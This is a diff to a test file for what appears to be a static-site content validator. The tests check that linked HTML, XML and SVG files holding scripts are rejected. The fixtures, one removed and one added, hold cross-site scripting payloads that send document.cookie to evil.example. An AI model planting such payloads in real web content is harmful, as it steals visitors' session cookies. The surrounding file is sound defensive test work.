@@ -62,13 +62,13 @@ const ERRORS: Case[] = [
     says: ['content/guide/zebra.md:7:1: image "./img/evil.svg": content/guide/img/evil.svg is an SVG image that holds a script, an event handler or a javascript: link', 'fix: remove its scripts, event handlers and javascript: links (export the drawing again as a plain SVG), or show a PNG instead'],
   },
   {
-    name: 'a linked HTML file with an event handler',
+    name: 'a linked XML document with a script (served as XHTML, it ran on the site)',
     change: (site) => {
-      write(site, 'content/guide/img/report.html', '<!doctype html><p>Results</p><img src="x" onerror="location=\'https://evil.example/?\'+document.cookie">');
-      write(site, 'content/guide/zebra.md', '---\ntitle: Zebra\n---\n\nSee [the report](./img/report.html).\n');
+      write(site, 'content/guide/img/report.xml', '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>Results</p><script>location = "https://evil.example/?" + document.cookie</script></body></html>');
+      write(site, 'content/guide/zebra.md', '---\ntitle: Zebra\n---\n\nSee [the report](./img/report.xml).\n');
     },
     code: 1,
-    says: ['content/guide/zebra.md:5:5: link to "./img/report.html": content/guide/img/report.html is a document that holds a script, an event handler or a javascript: link'],
+    says: ['content/guide/zebra.md:5:5: link to "./img/report.xml": content/guide/img/report.xml is a document that holds a script, an event handler or a javascript: link', 'fix: remove its scripts, event handlers and javascript: links, or link a PDF or plain-text copy instead'],
   },
   {
     name: 'a missing image',
